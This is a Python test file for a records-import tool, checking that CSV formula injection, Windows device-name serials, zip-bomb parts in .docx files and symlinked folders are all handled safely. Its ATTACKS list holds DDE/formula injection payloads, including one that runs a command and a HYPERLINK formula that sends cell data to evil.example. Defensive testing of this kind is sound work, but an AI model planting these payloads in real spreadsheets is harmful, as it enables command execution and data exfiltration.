"""Records import against hostile input: formulas in the register, device names as 编号,
oversized package parts, and record folders that are links to elsewhere."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from pathlib import Path

import pytest
from test_records_import import FIXTURE, filled

from generator.docset import DocumentSet
from generator.records import RecordErrors, csv_cell, import_records, read_record
from generator.render.docx.form import FormLabels, render_form
from generator.resolve import load_document_set


@pytest.fixture(scope="module")
def docset() -> DocumentSet:
    return load_document_set(FIXTURE)


@pytest.fixture(scope="module")
def blank(docset: DocumentSet) -> bytes:
    return render_form(docset, docset.forms["QR-01-01"], FormLabels())


ATTACKS = ["=cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
           '=HYPERLINK("http://evil.example/?x="&A1,"点击")', "-2+3+cmd|' /C calc'!A0",
           "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", ATTACKS)
def test_formula_cells_are_neutralised(text: str) -> None:
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("text", ["-3", "+1.5", "2026-017", "无锡", "a=b", ""])
def test_ordinary_cells_stay_as_typed(text: str) -> None:
    assert csv_cell(text) == text


def test_register_holds_no_formula_and_json_keeps_the_value(
    docset: DocumentSet, blank: bytes, tmp_path: Path,
) -> None:
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(blank, inbox, "a.docx", **{"wenkong:serial": "=1+2", "customer": ATTACKS[0],
                                      "phone": "@SUM(A1:A9)", "opinion": ATTACKS[3]})
    records = tmp_path / "records"
    result = import_records([inbox], docset, records)
    [record] = result.added
    stored = json.loads(record.record.read_text("utf-8"))
    assert stored["serial"] == "=1+2"
    assert stored["values"]["customer"] == ATTACKS[0]
    assert stored["values"]["phone"] == "@SUM(A1:A9)"
    raw = (records / "QR-01-01" / "register.csv").read_bytes().decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(raw)))
    cells = [cell for row in rows for cell in row]
    assert [c for c in cells if csv_cell(c) != c] == []  # nothing left for Excel to run
    assert "'=1+2" in rows[1] and "'" + ATTACKS[0] in rows[1] and "'@SUM(A1:A9)" in rows[1]


@pytest.mark.parametrize(("serial", "key"), [("CON", "CON_"), ("nul", "nul_"),
                                            ("Com1", "Com1_"), ("LPT9.txt", "LPT9_.txt"),
                                            ("CONTRACT-1", "CONTRACT-1")])
def test_device_names_as_serials_make_usable_file_names(
    docset: DocumentSet, blank: bytes, tmp_path: Path, serial: str, key: str,
) -> None:
    record = read_record(filled(blank, tmp_path, **{"wenkong:serial": serial}), docset,
                         FormLabels())
    assert record.serial == serial and record.key == key


def _with_part(data: bytes, name: str, body: bytes) -> bytes:
    source = zipfile.ZipFile(io.BytesIO(data))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for info in source.infolist():
            if info.filename != name:
                target.writestr(info, source.read(info.filename))
        target.writestr(name, body)
    return out.getvalue()


def test_an_oversized_custom_properties_part_is_refused_unread(
    docset: DocumentSet, blank: bytes, tmp_path: Path,
) -> None:
    path = filled(blank, tmp_path)
    bomb = (b'<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/'
            b'officeDocument/2006/custom-properties">' + b" " * (2 * 1024 * 1024)
            + b"</Properties>")
    path.write_bytes(_with_part(path.read_bytes(), "docProps/custom.xml", bomb))
    assert path.stat().st_size < 100_000  # spaces compress well: a small file, a big part
    with pytest.raises(RecordErrors) as caught:
        read_record(path, docset, FormLabels())
    assert "docProps/custom.xml" in caught.value.problems[0]


def test_a_part_whose_header_understates_its_size_is_still_capped(
    docset: DocumentSet, blank: bytes, tmp_path: Path, monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setitem(__import__("generator.records").records._MAX_PART,
                        "docProps/custom.xml", 100)
    path = filled(blank, tmp_path)
    with pytest.raises(RecordErrors) as caught:
        read_record(path, docset, FormLabels())
    assert "docProps/custom.xml" in caught.value.problems[0]


def test_a_form_folder_linked_elsewhere_is_not_written_through(
    docset: DocumentSet, blank: bytes, tmp_path: Path,
) -> None:
    elsewhere = tmp_path / "elsewhere"
    elsewhere.mkdir()
    (elsewhere / "keep.txt").write_text("keep")
    records = tmp_path / "records"
    records.mkdir()
    (records / "QR-01-01").symlink_to(elsewhere, target_is_directory=True)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(blank, inbox, "a.docx")
    with pytest.raises(RecordErrors) as caught:
        import_records([inbox], docset, records)
    assert "符号链接" in caught.value.problems[0]
    assert sorted(p.name for p in elsewhere.iterdir()) == ["keep.txt"]


def test_a_register_that_is_a_link_is_not_written_through(
    docset: DocumentSet, blank: bytes, tmp_path: Path,
) -> None:
    outside = tmp_path / "budget.csv"
    outside.write_text("money")
    folder = tmp_path / "records" / "QR-01-01"
    folder.mkdir(parents=True)
    (folder / "register.csv").symlink_to(outside)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(blank, inbox, "a.docx")
    with pytest.raises(RecordErrors, match=r"register\.csv"):
        import_records([inbox], docset, tmp_path / "records")
    assert outside.read_text() == "money"
    assert sorted(p.name for p in folder.iterdir()) == ["register.csv"]


def test_a_default_records_folder_linked_elsewhere_is_refused(blank: bytes,
                                                                tmp_path: Path) -> None:
    from typer.testing import CliRunner

    from generator.cli import app

    root = tmp_path / "set"
    __import__("shutil").copytree(FIXTURE, root)
    elsewhere = tmp_path / "share"
    elsewhere.mkdir()
    (root / "records").symlink_to(elsewhere, target_is_directory=True)
    inbox = tmp_path / "inbox"
    inbox.mkdir()
    filled(blank, inbox, "a.docx")
    result = CliRunner().invoke(app, ["records", "import", str(inbox), "--root", str(root)])
    assert result.exit_code == 1 and "--records-dir" in result.output
    assert list(elsewhere.iterdir()) == []
    named = CliRunner().invoke(app, ["records", "import", str(inbox), "--root", str(root),
                                     "--records-dir", str(elsewhere)])
    assert named.exit_code == 0, named.output
    assert sorted(p.name for p in (elsewhere / "QR-01-01").iterdir()) == [
        "2026-017.json", "register.csv"]
